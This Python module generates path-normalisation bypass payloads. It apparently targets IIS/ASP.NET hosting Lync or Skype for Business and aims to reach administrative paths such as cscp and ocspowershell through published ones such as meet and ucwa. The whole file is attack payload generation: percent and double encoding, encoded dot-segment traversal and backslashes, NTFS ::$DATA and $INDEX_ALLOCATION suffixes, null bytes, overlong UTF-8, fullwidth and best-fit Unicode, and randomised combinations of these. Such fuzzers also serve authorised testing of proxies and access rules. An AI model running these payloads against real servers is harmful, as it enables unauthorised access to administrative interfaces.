"""Ways to spell a path that Windows, IIS or ASP.NET may understand as a directory."""

import random

REFUSED = ("cscp", "macp", "ocspsws", "ocspowershell", "admin")
PUBLISHED = ("meet", "abs/handler", "ucwa", "webticket", "lwa")
FULLWIDTH = {c: chr(0xff21 + ord(c) - 65 if c.isupper() else 0xff41 + ord(c) - 97)
             for c in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"}


def escape(data, rng=None):
    """Every byte as %XX, hex digits in either case."""
    return "".join(rng.choice(("%%%02x", "%%%02X")) % b if rng else "%%%02x" % b for b in data)


def any_case(text, rng):
    return "".join(rng.choice((c.lower(), c.upper())) for c in text)


def some_encoded(text, rng):
    return "".join(escape(c.encode(), rng) if rng.random() < 0.4 else c for c in text)


def plain(name):
    """Spellings that anybody tries first."""
    yield from (f"/{name}", f"/{name}/", f"/{name.upper()}", f"/{name.capitalize()}/Default.aspx",
                f"/{name}/x/y", f"/{name}//", f"//{name}", f"///{name}/", f"/./{name}", f"/.//{name}",
                f"/%2e/{name}", f"/%2E/{name}")


def encoded(name):
    for i in range(len(name)):
        for code in ("%%%02x" % ord(name[i]), "%%25%02x" % ord(name[i]), "%%2525%02x" % ord(name[i]),
                     "%%%02X" % ord(name[i].upper()), "%%u%04x" % ord(name[i]),
                     "%%25u%04x" % ord(name[i])):
            yield "/" + name[:i] + code + name[i + 1:]
    yield "/" + escape(name.encode())
    yield "/" + escape(escape(name.encode()).encode())
    yield "%2f" + name                      # not even an origin form
    yield "/%2f" + name
    yield "/%5c" + name
    yield "/%252f" + name


def dots(name):
    for lead in ("/meet", "/abs/handler", "/nowhere", "/meet/a/b", ""):
        depth = lead.count("/")
        for up in ("..", "%2e%2e", ".%2e", "%2e.", "%2E%2E", "%252e%252e"):
            for slash in ("/", "%2f", "%5c", "\\", "%252f", "%255c"):
                yield lead + "/" + (up + slash) * depth + name
    yield f"/meet/./../{name}"
    yield f"/meet//../{name}"
    yield f"/meet;x/../{name}"
    yield f"/{name}/../{name}"
    yield f"/{name}/.."
    # three dots lead up for some readers and nowhere for IIS; what is cut off may be a slash
    for three in ("...", "....", "%2e..", "..%20", ".%20.", "..%09", "..%2e"):
        for end in ("", "/meet", "/meet/../abs", "%2fabs"):
            yield f"/meet/../{name}/{three}{end}"
            yield f"/{name}%2f{three}{end}"
            yield f"/a%5c..%5c{name}/x.aspx/{three}/{three}{end}"
    for lead in ("/meet/..;%252fmeet", "/meet/a%2fb/../..", "/meet/a%5cb/../..", "/meet/a\\b/../..", "/meet/a;/b%252fc/../..",
                 "/meet/(S(a))/../meet%252fa/..", "/meet/a%252fb/../%252e%252e", "/meet/%20/a%252fb/../.."):
        yield lead + "/" + name


def tails(name):
    for tail in (".", "..", "...", "%2e", "%20", "%20%20", ".%20", "%20.", "%09", ";", ";x", ";x=y",
                 ";jsessionid=1", "%3b", "%3Bx", ":$DATA", "::$DATA", "::$INDEX_ALLOCATION",
                 ":$i30:$INDEX_ALLOCATION", "%3a%3a$DATA", "\\", "%5c", "%5cx", "\\x", "%2f", "%2fx",
                 "/.", "/./", "/%2e", "%00", "%00/meet", "%00.html", "%2520", "%252e", "%253b",
                 "/..%2f" + name, "?", "?/meet", "#"):
        yield f"/{name}{tail}"
        yield f"/{name.upper()}{tail}"


def unicodes(name):
    """What best-fit mappings and broken decoders make ASCII of; encoded and as raw bytes."""
    def both(text):
        data = text if isinstance(text, bytes) else text.encode()
        return "/" + "".join(chr(b) if b < 128 else "%%%02x" % b for b in data), b"/" + data

    for i, c in enumerate(name):
        a, z = name[:i], name[i + 1:]
        overlong = (bytes((0xc0 | ord(c) >> 6, 0x80 | ord(c) & 63)),
                    bytes((0xe0, 0x80 | ord(c) >> 6, 0x80 | ord(c) & 63)),
                    bytes((0xf0, 0x80, 0x80 | ord(c) >> 6, 0x80 | ord(c) & 63)))
        for bad in overlong:
            yield from both(a.encode() + bad + z.encode())
        yield from both(a + FULLWIDTH[c] + z)
        yield from both(a + FULLWIDTH[c.upper()] + z)
        yield "/%s%%u%04x%s" % (a, ord(FULLWIDTH[c]), z)
        if c == "s":
            yield from both(a + "ſ" + z)
            yield f"/{a}%u017f{z}"
        if c == "i":
            yield from both(a + "ı" + z)
            yield from both(a + "İ" + z)
    yield from both("".join(FULLWIDTH[c] for c in name))
    yield from ("/meet/..%c0%af" + name, "/meet/..%c1%9c" + name, "/meet/%c0%ae%c0%ae/" + name,
                "/meet/..%u002f" + name, "/meet/%u002e%u002e/" + name, "/meet/..%u005c" + name,
                b"/meet/..\xc0\xaf" + name.encode())


def oddities(name):
    """Blanks and controls, raw; what cannot be decoded."""
    yield from (f"/{name}/(S(x))/", f"/\t{name}", f"/{name}\t",
                f"/{name}\x01", f"/{name}\x7f", f"\\{name}", f"/\\{name}", f"/{name}%",
                f"/{name}%u", f"/{name}%zz", f"/meet/%2e%2e%2f%2e%2e%2f{name}", f"/../{name}",
                f"/..%2f{name}", f"/%2e%2e/{name}", f"/meet/../../{name}", f"{name}", f"?/{name}",
                f"/ {name}", f"/{name} ")


def mixed(name, rng, count):
    """Several of the above at once."""
    for _ in range(count):
        word = some_encoded(any_case(name, rng), rng)
        if rng.random() < 0.3:
            word = word.replace("%", "%25")
        lead = rng.choice(("/", "//", "/./", "/%2e/", "/meet/../", "/meet/..%2f", "/meet/%2e%2e/",
                           "/meet/..%5c", "/meet/..\\", "/Abs/x/../../", "/meet/.%2e//", "/%5c"))
        yield lead + word + rng.choice(("", "/", ".", "%20", ";x", "/x.aspx", "%2e/", "\\", "%5cx", "/."))


def spellings(name, seed=1, count=60):
    rng = random.Random("%s %s" % (seed, name))
    seen = set()
    for maker in (plain, encoded, dots, tails, unicodes, oddities):
        for target in maker(name):
            if target not in seen:
                seen.add(target)
                yield target
    for target in mixed(name, rng, count):
        if target not in seen:
            seen.add(target)
            yield target
